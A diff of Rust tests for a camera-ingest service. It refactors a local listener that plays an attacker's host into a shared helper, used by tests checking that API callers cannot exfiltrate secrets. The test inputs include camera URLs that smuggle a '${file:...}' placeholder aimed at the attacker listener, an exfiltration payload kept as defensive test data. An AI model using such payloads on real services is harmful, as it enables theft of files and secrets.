@@ -70,6 +70,29 @@ fn camera(id: &str, url: &str) -> String {
     )
 }
 
+/// A listener standing for an attacker's host, for 4 s: its port, its thread, and how much
+/// it heard (connections plus bytes).
+fn attackers_host() -> (u16, std::thread::JoinHandle<()>, Arc<AtomicUsize>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    listener.set_nonblocking(true).unwrap();
+    let heard = Arc::new(AtomicUsize::new(0));
+    let h = heard.clone();
+    let ear = std::thread::spawn(move || {
+        let deadline = std::time::Instant::now() + Duration::from_secs(4);
+        while std::time::Instant::now() < deadline {
+            if let Ok((mut c, _)) = listener.accept() {
+                let mut buf = [0u8; 4096];
+                let _ = c.set_read_timeout(Some(Duration::from_millis(500)));
+                let n = c.read(&mut buf).unwrap_or(0);
+                h.fetch_add(1 + n, Ordering::SeqCst);
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    });
+    (port, ear, heard)
+}
+
 fn text(body: &[u8]) -> String {
     String::from_utf8_lossy(body).into_owned()
 }
@@ -232,23 +255,7 @@ async fn the_page_is_served_under_a_strict_policy_and_input_is_bounded() {
 async fn an_api_caller_cannot_expand_the_services_secrets_into_a_camera_url() {
     let s = start();
     let port = s.service.port();
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let attacker = listener.local_addr().unwrap().port();
-    listener.set_nonblocking(true).unwrap();
-    let heard = Arc::new(AtomicUsize::new(0));
-    let h = heard.clone();
-    let ear = std::thread::spawn(move || {
-        let deadline = std::time::Instant::now() + Duration::from_secs(4);
-        while std::time::Instant::now() < deadline {
-            if let Ok((mut c, _)) = listener.accept() {
-                let mut buf = [0u8; 4096];
-                let _ = c.set_read_timeout(Some(Duration::from_millis(500)));
-                let n = c.read(&mut buf).unwrap_or(0);
-                h.fetch_add(1 + n, Ordering::SeqCst);
-            }
-            std::thread::sleep(Duration::from_millis(20));
-        }
-    });
+    let (attacker, ear, heard) = attackers_host();
     for url in [
         format!(
             "rtsp://127.0.0.1:{attacker}/${{file:{}}}",
@@ -286,23 +293,7 @@ async fn an_api_caller_cannot_send_a_login_of_the_file_to_their_own_host() {
          [ingest]\nallowed_networks = [\"10.0.0.0/8\", \"127.0.0.0/8\"]\n",
     );
     let port = s.service.port();
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let attacker = listener.local_addr().unwrap().port();
-    listener.set_nonblocking(true).unwrap();
-    let heard = Arc::new(AtomicUsize::new(0));
-    let h = heard.clone();
-    let ear = std::thread::spawn(move || {
-        let deadline = std::time::Instant::now() + Duration::from_secs(4);
-        while std::time::Instant::now() < deadline {
-            if let Ok((mut c, _)) = listener.accept() {
-                let mut buf = [0u8; 4096];
-                let _ = c.set_read_timeout(Some(Duration::from_millis(500)));
-                let n = c.read(&mut buf).unwrap_or(0);
-                h.fetch_add(1 + n, Ordering::SeqCst);
-            }
-            std::thread::sleep(Duration::from_millis(20));
-        }
-    });
+    let (attacker, ear, heard) = attackers_host();
     let at_attacker = format!("rtsp://127.0.0.1:{attacker}/live");
     for (login, why) in [
         // A login with no networks: never for a camera from the API.
